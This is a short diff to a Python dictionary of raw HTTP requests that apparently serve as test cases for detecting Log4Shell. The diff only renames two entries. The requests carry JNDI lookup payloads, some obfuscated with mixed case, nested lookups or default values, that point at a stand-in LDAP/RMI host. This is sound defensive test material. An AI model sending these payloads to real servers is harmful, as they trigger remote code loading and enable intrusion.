@@ -49,7 +49,7 @@ FORMS = {
     "Content-Type": b"GET / HTTP/1.1" + HOST + b"Content-Type: " + LOOKUP + b"\r\n\r\n",
     "Cookie": b"GET / HTTP/1.1" + HOST + b"Cookie: lang=en; id=" + LOOKUP + b"\r\n\r\n",
     "case of field and scheme": b"GET / HTTP/1.1" + HOST + b"uSER-aGENT: ${JnDi:LDAP://203.0.113.9/a}\r\n\r\n",
-    "nested look-ups": b"GET / HTTP/1.1" + HOST + b"User-Agent: ${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}\r\n\r\n",
+    "nested lookups": b"GET / HTTP/1.1" + HOST + b"User-Agent: ${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}\r\n\r\n",
     "default values": b"GET / HTTP/1.1" + HOST + (
         b"User-Agent: "
         b"${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://203.0.113.9/a}\r\n\r\n"
@@ -63,7 +63,7 @@ FORMS = {
     "absolute-form": b"GET http://shop.example/?q=" + LOOKUP + b" HTTP/1.1" + HOST + b"\r\n",
     "HTTP/1.0": b"GET / HTTP/1.0\r\nUser-Agent: " + LOOKUP + b"\r\n\r\n",
     "unknown method": b"FROB / HTTP/1.1" + HOST + b"User-Agent: " + LOOKUP + b"\r\n\r\n",
-    "no space behind the colon": b"GET / HTTP/1.1" + HOST + b"User-Agent:" + LOOKUP + b"\r\n\r\n",
+    "no space after the colon": b"GET / HTTP/1.1" + HOST + b"User-Agent:" + LOOKUP + b"\r\n\r\n",
     "line feeds only": b"GET / HTTP/1.1\nHost: shop.example\nUser-Agent: " + LOOKUP + b"\n\n",
     "folded field": b"GET / HTTP/1.1" + HOST + b"User-Agent: x\r\n " + LOOKUP + b"\r\n\r\n",
     "pipelined request": b"GET /a HTTP/1.1" + HOST + b"\r\nGET / HTTP/1.1" + HOST + b"User-Agent: " + LOOKUP + b"\r\n\r\n",
